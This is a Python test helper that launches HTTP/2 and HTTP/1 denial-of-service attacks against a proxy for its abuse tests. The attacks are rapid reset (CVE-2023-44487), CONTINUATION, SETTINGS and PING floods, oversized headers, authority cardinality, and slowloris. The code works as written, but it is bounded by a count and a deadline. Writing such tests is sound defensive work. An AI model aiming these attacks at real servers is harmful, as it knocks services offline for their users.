#!/usr/bin/env python3
"""Hostile clients for the proxy's abuse tests (crates/proxy/tests/e2e/abuse.rs).

Usage: h2_abuse.py ATTACK HOST:PORT [COUNT]. Speaks HTTP/2 with the `h2` package (the
hyper-h2 project) where a real client library can, and writes raw frames (`hyperframe`,
h2's own framing layer) where an attack needs frames no well-behaved library sends. Every
loop is bounded by COUNT and by DEADLINE seconds. Prints one JSON object: what was sent and
how the server reacted.
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame

DEADLINE = 30.0


def connect(addr):
    host, port = addr.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def client(sock):
    conn = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return conn


def request(authority, path="/", extra=()):
    return [
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", authority),
        (":path", path),
        *extra,
    ]


class Outcome:
    """How the server reacted: GOAWAY (and its code), resets, responses, a close."""

    def __init__(self):
        self.goaway = None
        self.resets = 0
        self.statuses = {}
        self.closed = False

    def feed(self, conn, sock, data):
        if not data:
            self.closed = True
            return
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.closed = True
            return
        for e in events:
            if isinstance(e, h2.events.ConnectionTerminated):
                self.goaway = int(e.error_code)
            elif isinstance(e, h2.events.StreamReset):
                self.resets += 1
            elif isinstance(e, h2.events.DataReceived):
                conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
            elif isinstance(e, h2.events.ResponseReceived):
                status = dict(e.headers).get(":status", "?")
                self.statuses[status] = self.statuses.get(status, 0) + 1
        out = conn.data_to_send()
        if out and not self.closed:
            try:
                sock.sendall(out)
            except OSError:
                self.closed = True

    def drain(self, conn, sock, wait=0.0):
        """Reads what the server sent; waits up to `wait` seconds for more."""
        sock.settimeout(wait)
        try:
            while not self.closed:
                data = sock.recv(65536)
                self.feed(conn, sock, data)
                sock.settimeout(0.05 if wait else 0)
        except (BlockingIOError, socket.timeout):
            pass
        except OSError:
            self.closed = True
        sock.settimeout(10)

    def summary(self, **extra):
        return {
            "goaway": self.goaway,
            "resets": self.resets,
            "statuses": self.statuses,
            "closed": self.closed,
            **extra,
        }


def rapid_reset(addr, count):
    """CVE-2023-44487: open a stream and cancel it at once, as fast as possible."""
    sock = connect(addr)
    conn = client(sock)
    out = Outcome()
    start, sent = time.monotonic(), 0
    try:
        while sent < count and not out.closed and out.goaway is None:
            if time.monotonic() - start > DEADLINE:
                break
            for _ in range(100):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, request("app.local"), end_stream=True)
                conn.reset_stream(sid)
                sent += 1
            sock.sendall(conn.data_to_send())
            out.drain(conn, sock)
    except (OSError, h2.exceptions.ProtocolError):
        out.closed = True
    out.drain(conn, sock, wait=1.0)
    return out.summary(sent=sent)


def continuation_flood(addr, count):
    """HEADERS without END_HEADERS, then endless CONTINUATION frames of header fields."""
    sock = connect(addr)
    conn = client(sock)
    out = Outcome()
    enc = Encoder()
    first = HeadersFrame(1)
    first.data = enc.encode(request("app.local"))
    sock.sendall(first.serialize())
    sent_bytes, frames, start = 0, 0, time.monotonic()
    try:
        while frames < count and time.monotonic() - start < DEADLINE:
            frame = ContinuationFrame(1)
            frame.data = enc.encode([(f"x-flood-{frames}", "v" * 8000)])
            sock.sendall(frame.serialize())
            sent_bytes += len(frame.data)
            frames += 1
            if frames % 16 == 0:
                out.drain(conn, sock)
                if out.closed or out.goaway is not None:
                    break
    except OSError:
        out.closed = True
    out.drain(conn, sock, wait=1.0)
    return out.summary(frames=frames, header_bytes=sent_bytes)


def control_flood(addr, count, make):
    """Control frames the server must answer (SETTINGS, PING) while we never read."""
    sock = connect(addr)
    conn = client(sock)
    out = Outcome()
    sock.settimeout(2)
    batch = b"".join(make(i).serialize() for i in range(1000))
    sent, start = 0, time.monotonic()
    try:
        while sent < count and time.monotonic() - start < DEADLINE:
            sock.sendall(batch)
            sent += 1000
    except (OSError, socket.timeout):
        out.closed = True
    # What came back, once we do read.
    out.drain(conn, sock, wait=1.0)
    return out.summary(sent=sent)


def settings_frame(_i):
    f = SettingsFrame(0)
    f.settings = {SettingsFrame.MAX_CONCURRENT_STREAMS: 100}
    return f


def ping_frame(i):
    f = PingFrame(0)
    f.opaque_data = i.to_bytes(8, "big")
    return f


def oversized_headers(addr, count):
    """Requests whose header list is far over the proxy's limit; count = header fields."""
    sock = connect(addr)
    conn = client(sock)
    out = Outcome()
    # The library splits the block into HEADERS and CONTINUATION frames itself.
    extra = [(f"x-big-{i}", "b" * 1000) for i in range(count)]
    for _ in range(3):
        if out.closed or out.goaway is not None:
            break
        sid = conn.get_next_available_stream_id()
        try:
            conn.send_headers(sid, request("app.local", "/oversized", extra), end_stream=True)
            sock.sendall(conn.data_to_send())
        except (OSError, h2.exceptions.ProtocolError):
            out.closed = True
        out.drain(conn, sock, wait=1.0)
    return out.summary(fields=count)


def cardinality(addr, count):
    """One request per distinct :authority (some valid, some 20 KB), on one connection."""
    sock = connect(addr)
    conn = client(sock)
    out = Outcome()
    sent, start = 0, time.monotonic()
    while sent < count and not out.closed and time.monotonic() - start < DEADLINE:
        for _ in range(min(100, count - sent)):
            if sent % 10 == 9:
                authority = f"{sent}-" + "h" * 20000
            else:
                authority = f"host-{sent}.example:8080"
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, request(authority), end_stream=True)
            sent += 1
        sock.sendall(conn.data_to_send())
        # Wait for this batch's answers before the next; stop if they do not come.
        deadline = time.monotonic() + 10
        while sum(out.statuses.values()) + out.resets < sent and not out.closed:
            if time.monotonic() > deadline:
                return out.summary(sent=sent, stalled=True)
            out.drain(conn, sock, wait=0.5)
    return out.summary(sent=sent, stalled=False)


def slowloris(addr, count, preface, trickle):
    """`count` connections that each send a request's first bytes, then the next byte of
    `trickle` (valid bytes of the same request) once a second, never finishing; reports when
    the server closed each (or that it did not)."""
    socks, start = [], time.monotonic()
    for _ in range(count):
        s = connect(addr)
        s.sendall(preface)
        s.setblocking(False)
        socks.append(s)
    closed_after = [None] * count
    sent = 0
    while time.monotonic() - start < DEADLINE and None in closed_after:
        for i, s in enumerate(socks):
            if closed_after[i] is not None:
                continue
            try:
                while s.recv(4096):
                    pass  # an answer (408, a GOAWAY) is fine; the close is what counts
                closed_after[i] = time.monotonic() - start
            except BlockingIOError:
                try:
                    s.send(trickle[sent % len(trickle) : sent % len(trickle) + 1])
                except OSError:
                    closed_after[i] = time.monotonic() - start
            except OSError:
                closed_after[i] = time.monotonic() - start
        sent += 1
        time.sleep(1.0)
    for s in socks:
        s.close()
    held = sum(1 for c in closed_after if c is None)
    last = max((c for c in closed_after if c is not None), default=None)
    return {"connections": count, "still_open": held, "last_closed_after": last}


def main():
    attack, addr = sys.argv[1], sys.argv[2]
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 1000
    if attack == "rapid-reset":
        result = rapid_reset(addr, count)
    elif attack == "continuation-flood":
        result = continuation_flood(addr, count)
    elif attack == "settings-flood":
        result = control_flood(addr, count, settings_frame)
    elif attack == "ping-flood":
        result = control_flood(addr, count, ping_frame)
    elif attack == "oversized-headers":
        result = oversized_headers(addr, count)
    elif attack == "cardinality":
        result = cardinality(addr, count)
    elif attack == "slowloris-http1":
        # A header value that never ends.
        result = slowloris(addr, count, b"GET / HTTP/1.1\r\nHost: app.local\r\nX-Slow: ", b"x")
    elif attack == "slowloris-h2":
        # The client preface, then an empty SETTINGS frame, a byte at a time (31 s' worth).
        preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
        rest = preface[2:] + bytes.fromhex("000000040000000000") + bytes(1000)
        result = slowloris(addr, count, preface[:2], rest)
    else:
        sys.exit(f"unknown attack {attack}")
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
